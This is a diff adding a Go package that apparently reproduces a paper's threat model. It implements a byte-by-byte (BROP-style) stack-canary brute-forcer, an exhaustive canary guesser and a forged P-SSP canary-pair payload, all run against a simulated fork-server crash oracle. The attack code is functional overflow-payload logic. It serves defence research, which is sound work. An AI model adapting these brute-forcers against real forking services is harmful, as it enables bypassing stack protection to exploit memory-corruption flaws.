@@ -1,0 +1,182 @@
+// Package attack implements the adversaries of the paper's threat model:
+// the byte-by-byte (BROP-style) canary brute-forcer of Section II-B and the
+// exhaustive-search attacker of Section III-C, both driven against a live
+// crash oracle (a fork-per-request server running real compiled code in the
+// VM).
+//
+// The attacker fits the paper's adversary model: it chooses inputs and
+// observes crash/no-crash behaviour, but has no direct memory read or write.
+package attack
+
+import (
+	"encoding/binary"
+	"fmt"
+
+	"repro/internal/kernel"
+)
+
+// Oracle answers one attack trial: did the worker survive the payload?
+type Oracle interface {
+	Try(payload []byte) (survived bool, err error)
+}
+
+// ServerOracle adapts a fork server into an Oracle.
+type ServerOracle struct {
+	Srv *kernel.ForkServer
+}
+
+// Try implements Oracle.
+func (o *ServerOracle) Try(payload []byte) (bool, error) {
+	out, err := o.Srv.Handle(payload)
+	if err != nil {
+		return false, err
+	}
+	return !out.Crashed, nil
+}
+
+// Config describes the victim's frame as known to the attacker (the paper
+// assumes no secrecy of the binary or layout).
+type Config struct {
+	// BufLen is the distance in bytes from the buffer start to the canary.
+	BufLen int
+	// CanaryLen is the canary size in bytes (8 on 64-bit SSP).
+	CanaryLen int
+	// Filler is the byte used to fill the buffer.
+	Filler byte
+	// MaxTrials bounds the attack; 0 means 16*256*CanaryLen.
+	MaxTrials int
+}
+
+func (c *Config) setDefaults() {
+	if c.CanaryLen == 0 {
+		c.CanaryLen = 8
+	}
+	if c.Filler == 0 {
+		c.Filler = 'A'
+	}
+	if c.MaxTrials == 0 {
+		c.MaxTrials = 16 * 256 * c.CanaryLen
+	}
+}
+
+// Result reports an attack run.
+type Result struct {
+	// Success is true when every canary byte was confirmed.
+	Success bool
+	// Canary is the recovered canary (complete only on success).
+	Canary []byte
+	// Trials is the total number of oracle queries.
+	Trials int
+	// PerByte is the number of trials spent on each recovered byte.
+	PerByte []int
+	// FailedAt is the byte position the attack gave up on (-1 on success).
+	FailedAt int
+}
+
+// RecoveredWord returns the canary as a little-endian word (zero-extended).
+func (r Result) RecoveredWord() uint64 {
+	var b [8]byte
+	copy(b[:], r.Canary)
+	return binary.LittleEndian.Uint64(b[:])
+}
+
+// ByteByByte runs the attack of Section II-B: guess the canary one byte at a
+// time from the lowest address, using worker survival as confirmation. On a
+// shared static canary (SSP over fork) the attacker's knowledge accumulates
+// and the expected cost is 8 × 2^7 = 1024 trials; against polymorphic
+// canaries each fork invalidates previous confirmations and the attack stalls.
+func ByteByByte(o Oracle, cfg Config) (Result, error) {
+	cfg.setDefaults()
+	res := Result{FailedAt: -1, PerByte: make([]int, 0, cfg.CanaryLen)}
+	known := make([]byte, 0, cfg.CanaryLen)
+
+	for pos := 0; pos < cfg.CanaryLen; pos++ {
+		tried := 0
+		found := false
+		for guess := 0; guess < 256; guess++ {
+			if res.Trials >= cfg.MaxTrials {
+				res.FailedAt = pos
+				res.PerByte = append(res.PerByte, tried)
+				return res, nil
+			}
+			payload := make([]byte, 0, cfg.BufLen+pos+1)
+			for i := 0; i < cfg.BufLen; i++ {
+				payload = append(payload, cfg.Filler)
+			}
+			payload = append(payload, known...)
+			payload = append(payload, byte(guess))
+
+			res.Trials++
+			tried++
+			survived, err := o.Try(payload)
+			if err != nil {
+				return res, fmt.Errorf("attack: trial %d: %w", res.Trials, err)
+			}
+			if survived {
+				known = append(known, byte(guess))
+				found = true
+				break
+			}
+		}
+		res.PerByte = append(res.PerByte, tried)
+		if !found {
+			// All 256 values crashed: the canary changed under us —
+			// polymorphic defence. Restart this byte from scratch would be
+			// the attacker's only option; we account it as a failure of the
+			// position (the paper's "advantage is not accumulated").
+			res.FailedAt = pos
+			res.Canary = known
+			return res, nil
+		}
+	}
+	res.Success = true
+	res.Canary = known
+	return res, nil
+}
+
+// Exhaustive runs the primitive attack of Section III-C-1: independent
+// uniformly random guesses of the full canary word. nextGuess supplies the
+// guesses (letting experiments seed it deterministically).
+func Exhaustive(o Oracle, cfg Config, nextGuess func() uint64) (Result, error) {
+	cfg.setDefaults()
+	var res Result
+	res.FailedAt = 0
+	for res.Trials < cfg.MaxTrials {
+		guess := nextGuess()
+		payload := make([]byte, cfg.BufLen+cfg.CanaryLen)
+		for i := 0; i < cfg.BufLen; i++ {
+			payload[i] = cfg.Filler
+		}
+		binary.LittleEndian.PutUint64(payload[cfg.BufLen:], guess)
+
+		res.Trials++
+		survived, err := o.Try(payload)
+		if err != nil {
+			return res, fmt.Errorf("attack: trial %d: %w", res.Trials, err)
+		}
+		if survived {
+			res.Success = true
+			res.FailedAt = -1
+			res.Canary = payload[cfg.BufLen:]
+			return res, nil
+		}
+	}
+	return res, nil
+}
+
+// PairPayload builds the informed P-SSP overwrite of Section III-C-1: an
+// attacker who somehow knows the TLS canary c forges a valid-looking pair
+// (C0', C1' = C0' XOR c). It demonstrates that P-SSP's security reduces to
+// the secrecy of c, exactly like SSP — no better, no worse — under
+// exhaustive search.
+func PairPayload(bufLen int, filler byte, c0, c1 uint64) []byte {
+	payload := make([]byte, bufLen+16)
+	for i := 0; i < bufLen; i++ {
+		payload[i] = filler
+	}
+	// Stack order: the pair's second word (C1, slot -16) sits below the
+	// first (C0, slot -8), so the overflow writes C1 first.
+	binary.LittleEndian.PutUint64(payload[bufLen:], c1)
+	binary.LittleEndian.PutUint64(payload[bufLen+8:], c0)
+	return payload
+}
